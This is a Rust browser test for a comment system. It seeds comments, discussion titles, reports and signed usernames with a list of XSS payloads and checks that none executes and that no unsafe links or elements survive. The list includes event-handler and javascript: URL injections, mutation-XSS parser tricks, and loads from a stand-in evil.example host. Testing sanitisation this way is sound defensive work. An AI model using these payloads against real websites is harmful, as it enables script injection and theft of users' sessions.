//! Payloads through every format and field: nothing runs, nothing leaves the page.

use serde_json::{Value, json};

use crate::world::World;

/// Tokens signed with this carry payloads as names; the development identity has none.
const SECRET: &str = "a secret of thirty-two bytes, at least";

const URL: &str = "https://blog.example.com/payloads";

/// Each would call `trap`, open a dialog or ask another host, were it to run.
const PAYLOADS: &[&str] = &[
    "<script>trap(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>trap(1)</scr</script>ipt>",
    "</script><script>trap(1)</script>",
    "\"><script>trap(1)</script>",
    "'><img src=x onerror=trap(1)>",
    "<img src=x onerror=trap(1)>",
    "<img src=https://evil.example/pixel.png>",
    "<img/src=x/onerror=trap(1)//",
    "<b onmouseover=trap(1)>hover</b>",
    "<body onload=trap(1)>",
    "<details open ontoggle=trap(1)>x</details>",
    "<input autofocus onfocus=trap(1)>",
    "<video><source onerror=trap(1)></video>",
    "<audio src=x onerror=trap(1)>",
    "<marquee onstart=trap(1)>x</marquee>",
    "<a href=javascript:trap(1)>x</a>",
    "<a href='java\nscript:trap(1)'>x</a>",
    "<a href='java&#x09;script:trap(1)'>x</a>",
    "<a href='javascript&colon;trap(1)'>x</a>",
    "<a href='data:text/html,<script>parent.trap(1)</script>'>x</a>",
    "<a href='vbscript:trap(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://good.example' target=_self rel=opener>x</a>",
    "<form action=javascript:trap(1)><button>x</button></form>",
    "<iframe src=javascript:parent.trap(1)></iframe>",
    "<iframe srcdoc='<script>parent.trap(1)</script>'></iframe>",
    "<object data=javascript:trap(1)></object>",
    "<embed src=javascript:trap(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body { display: none }</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p id=main class=target name=cookie>x</p>",
    "<form id=polite><input name=textContent></form>",
    "<svg onload=trap(1)>",
    "<svg><script>trap(1)</script></svg>",
    "<svg><a xlink:href=javascript:trap(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=trap(1) attributeName=x>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=trap(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=trap(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=trap(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=trap(1)>\">",
    "<textarea><a title=\"</textarea><img src=x onerror=trap(1)>\">",
    "<template><script>trap(1)</script></template>",
    "<plaintext><script>trap(1)</script>",
    "<!--><img src=x onerror=trap(1)>-->",
    "<![CDATA[<script>trap(1)</script>]]>",
    "<table><td><svg><desc><img src=x onerror=trap(1)>",
    "<x-custom onclick=trap(1)>x</x-custom>",
    "&lt;script&gt;trap(1)&lt;/script&gt;",
    "[x](javascript:trap(1))",
    "[x](&#106;avascript:trap(1))",
    "[x](https://good.example \"\\\" onclick=trap(1)\")",
    "![x](https://evil.example/i.png)",
    "![\"onerror=trap(1) x=\"](https://evil.example/i.png)",
    "<javascript:trap(1)>",
    "[x]\n\n[x]: javascript:trap(1)",
    "```\"><script>trap(1)</script>\nx\n```",
    "{{constructor.constructor('trap(1)')()}}",
    "${trap(1)}",
    "mail <me@good.example> or https://good.example/a?b=c",
];

/// Counts what ran, before any script of the page.
const TRAP: &str = "window.trapped = 0; window.trap = () => { window.trapped += 1; }; \
     for (const name of ['alert', 'confirm', 'prompt', 'open']) window[name] = window.trap; \
     document.addEventListener('securitypolicyviolation', () => { window.trapped += 1; });";

/// Uses everything that may be used, then tells what ran and which links are wrong.
const LOOK: &str = "for (const it of document.querySelectorAll('.body *')) { \
     for (const name of ['mouseover', 'focus', 'toggle', 'animationstart']) it.dispatchEvent(new Event(name, { bubbles: true })); } \
     const wrong = [...document.querySelectorAll('.body a[href]')].filter((it) => { \
       const rel = it.rel.split(' '); \
       return !['http:', 'https:', 'mailto:'].includes(it.protocol) || \
         !['nofollow', 'ugc', 'noopener'].every((word) => rel.includes(word)); }); \
     const odd = document.querySelectorAll('.body :is(script, style, iframe, object, embed, form, input, base, meta, link, img, svg, math, video, audio, [style], [id], [class]:not(.wide))'); \
     return { ran: window.trapped, links: wrong.map((it) => it.outerHTML), odd: [...odd].map((it) => it.outerHTML), \
       comments: document.querySelectorAll('article.comment').length, main: document.querySelectorAll('#main').length }";

async fn fill(world: &World) -> String {
    let create = "mutation ($input: CreateCommentInput!) { createComment(input: $input) { __typename \
         ... on CommentWritten { comment { id } } ... on CommentRefused { message } } }";
    let open = "mutation ($url: URL!, $title: String!) { openDiscussion(input: { url: $url, title: $title }) { id } }";
    let title =
        json!({ "url": URL, "title": "<img src=x onerror=trap(1)><script>trap(1)</script>" });
    let id = as_moderator(world, open, title).await["openDiscussion"]["id"].clone();
    for (at, payload) in PAYLOADS.iter().enumerate() {
        let address = format!("https://blog.example.com/{at}/\"'><script>trap(1)</script>");
        as_moderator(
            world,
            open,
            json!({ "url": address, "title": payload.replace('\n', " ") }),
        )
        .await;
    }
    let mut parent = Value::Null;
    for payload in PAYLOADS {
        for format in ["PLAIN", "MARKDOWN", "HTML"] {
            let body = format!("before\n\n{payload} after");
            let input = json!({ "url": URL, "body": body, "format": format, "parent": parent });
            let data = world
                .server
                .graphql(Some("7"), create, json!({ "input": input }))
                .await;
            let written = data["createComment"]["comment"]["id"].clone();
            if format == "PLAIN" {
                report(world, &written, payload).await;
            }
            if parent.is_null() {
                parent = written;
            }
        }
    }
    for (at, payload) in PAYLOADS.iter().enumerate() {
        post_as(world, at, payload).await;
    }
    id.as_str().unwrap().to_owned()
}

/// Reports a comment with a payload as what is said about it.
async fn report(world: &World, comment: &Value, payload: &str) {
    let query = "mutation ($i: ReportCommentInput!) { reportComment(input: $i) { __typename } }";
    let input = json!({ "comment": comment, "reason": "OTHER", "text": payload });
    let data = world
        .server
        .graphql(Some("8"), query, json!({ "i": input }))
        .await;
    assert_eq!(data["reportComment"]["__typename"], "CommentReported");
}

/// Writes a comment as somebody whose name is a payload, as far as names may be that.
async fn post_as(world: &World, at: usize, payload: &str) {
    let claims =
        json!({ "sub": (5_000 + at).to_string(), "exp": 4_000_000_000_u32, "name": payload });
    let key = jsonwebtoken::EncodingKey::from_secret(SECRET.as_bytes());
    let token = jsonwebtoken::encode(&jsonwebtoken::Header::default(), &claims, &key).unwrap();
    let query = "mutation ($url: URL!) { createComment(input: { url: $url, body: \"my name\" }) { __typename } }";
    let request = world.server.client().post(world.at("/graphql"));
    let request = request.header("authorization", format!("Bearer {token}"));
    let body = json!({ "query": query, "variables": { "url": URL } });
    let answer: Value = request
        .json(&body)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(
        answer["data"]["createComment"]["__typename"],
        "CommentWritten"
    );
}

async fn as_moderator(world: &World, query: &str, variables: Value) -> Value {
    let body = json!({ "query": query, "variables": variables });
    let request = world.server.client().post(world.at("/graphql"));
    let request = request
        .header("x-dev-user", "9")
        .header("x-dev-roles", "moderator");
    let answer: Value = request
        .json(&body)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert!(answer.get("errors").is_none(), "{answer:#}");
    answer["data"].clone()
}

pub(crate) async fn no_payload_runs_anywhere() {
    let world = World::with(&[("THREADLINE_AUTH__HS256_SECRET", SECRET)]).await;
    let id = fill(&world).await;
    let browser = &world.browser;
    browser
        .chromium(
            "Page.addScriptToEvaluateOnNewDocument",
            json!({ "source": TRAP }),
        )
        .await;
    world.sign_in("7", "moderator").await;
    let pages = [
        "/".to_owned(),
        format!("/d/{id}"),
        format!("/embed?url={URL}"),
    ];
    for mode in ["THREADED", "LINEAR"] {
        browser
            .js(&format!(
                "localStorage.setItem('threadline.mode', '\"{mode}\"')"
            ))
            .await;
        for page in &pages {
            world.open(page).await;
            show_all(&world).await;
            let seen = browser.js(LOOK).await;
            assert_eq!(seen["ran"], 0, "{page} {mode}: {seen:#}");
            assert_eq!(seen["links"], json!([]), "{page} {mode}");
            assert_eq!(seen["odd"], json!([]), "{page} {mode}");
            assert_eq!(seen["main"], 1);
            let wanted = if page == "/" { 0 } else { PAYLOADS.len() * 4 };
            assert_eq!(seen["comments"], wanted, "{page} {mode}");
        }
    }
    // What people say of comments, to those who read it.
    world.open("/moderation").await;
    show_all(&world).await;
    let seen = browser.js(LOOK).await;
    assert_eq!((&seen["ran"], &seen["links"]), (&json!(0), &json!([])));
    assert_eq!(seen["odd"], json!([]));
    let text = browser.js("return document.body.innerText").await;
    assert!(text.as_str().unwrap().contains("trap(1)"));
    world.end().await;
}

/// Presses every button that leads to more.
async fn show_all(world: &World) {
    let press = "const more = [...document.querySelectorAll('.bar-more button, .branch-bar button')] \
         .find((it) => /^Show/.test(it.innerText)); if (more && !more.disabled) more.click(); return Boolean(more)";
    while world.browser.js(press).await == true {
        tokio::task::yield_now().await;
    }
}
